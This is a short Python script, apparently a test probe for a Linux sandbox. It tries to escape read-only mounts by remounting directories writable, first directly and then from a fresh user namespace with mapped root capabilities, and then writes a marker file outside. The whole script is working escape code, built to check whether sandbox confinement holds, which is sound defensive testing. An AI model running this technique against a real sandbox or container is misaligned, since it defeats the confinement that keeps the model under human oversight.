"""Attack: undo the sandbox's read-only mounts, first with the capabilities it left, then from a
fresh user namespace (full capabilities inside it), and write outside (argv[1] = path)."""
print("ATTACK-START", flush=True)
import ctypes
import os
import sys

target = sys.argv[1]
libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWUSER, CLONE_NEWNS, CLONE_NEWNET = 0x10000000, 0x00020000, 0x40000000
MS_REMOUNT, MS_BIND = 32, 4096


def call(label, rc):
    err = ctypes.get_errno()
    print(f"{label}: {'ok' if rc == 0 else os.strerror(err)}", flush=True)
    return rc == 0


folder = os.path.dirname(target).encode()
# 1. with whatever capabilities the sandbox left us: undo its read-only remounts directly
call("direct remount target dir rw", libc.mount(None, folder, None, MS_REMOUNT | MS_BIND, None))
call("direct remount / rw", libc.mount(None, b"/", None, MS_REMOUNT | MS_BIND, None))
# 2. a fresh user namespace (full capabilities inside it) and try again
uid, gid = os.getuid(), os.getgid()
if call("unshare(NEWUSER|NEWNS)", libc.unshare(CLONE_NEWUSER | CLONE_NEWNS)):
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
        try:
            with open(f"/proc/self/{name}", "w") as handle:
                handle.write(text)
        except OSError as exc:
            print(f"{name}: {exc}", flush=True)
    call("remount / rw", libc.mount(None, b"/", None, MS_REMOUNT, None))
    call("remount target dir rw", libc.mount(None, folder, None, MS_REMOUNT | MS_BIND, None))
    call("unshare(NEWNET) again", libc.unshare(CLONE_NEWNET))
try:
    with open(target, "w") as handle:
        handle.write("ESCAPE")
    print(f"WROTE {target} (visible outside only if it escaped)", flush=True)
except OSError as exc:
    print(f"BLOCKED {type(exc).__name__}: {exc}", flush=True)
    raise
